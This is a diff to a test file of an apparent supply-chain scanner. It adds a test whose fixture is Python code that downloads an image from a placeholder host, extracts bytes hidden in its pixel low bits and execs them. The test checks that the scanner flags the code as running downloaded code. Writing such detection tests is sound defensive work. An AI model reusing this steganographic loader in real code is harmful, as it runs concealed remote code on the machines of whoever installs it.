@@ -13,6 +13,7 @@ import pytest
 
 from mlsupply.evidence.members import requirement_facts
 from mlsupply.evidence.prefilter import worth_parsing
+from mlsupply.evidence.python import analyse
 from tests.test_code_facts import found, init, setup
 
 OPENS = "MLS-C046"
@@ -232,3 +233,15 @@ def test_a_requirement_out_of_sight() -> None:
     assert not list(
         requirement_facts("requirements.txt", b"numpy" + b" " * 200 + b"# why\ntorch   ; python_version > '3'\n")
     )
+
+
+@pytest.mark.parametrize("path", ["setup.py", "single.py", "demo/__init__.py"])
+def test_what_a_library_makes_of_received_bytes_is_received_in_modules_of_no_package_too(path: str) -> None:
+    """A library's name looks like a neighbour's where there is no package to tell them apart."""
+    text = (
+        "import io, urllib.request\nimport numpy as np\nfrom PIL import Image\n"
+        "picture = Image.open(io.BytesIO(urllib.request.urlopen('https://c.example/p.png').read())).convert('RGB')\n"
+        "exec(np.packbits(np.asarray(picture).reshape(-1) & 1).tobytes())\n"
+    )
+    facts = analyse.module(path, text.encode()).facts
+    assert "runs-downloaded" in {fact.behaviour for fact, _ in facts}
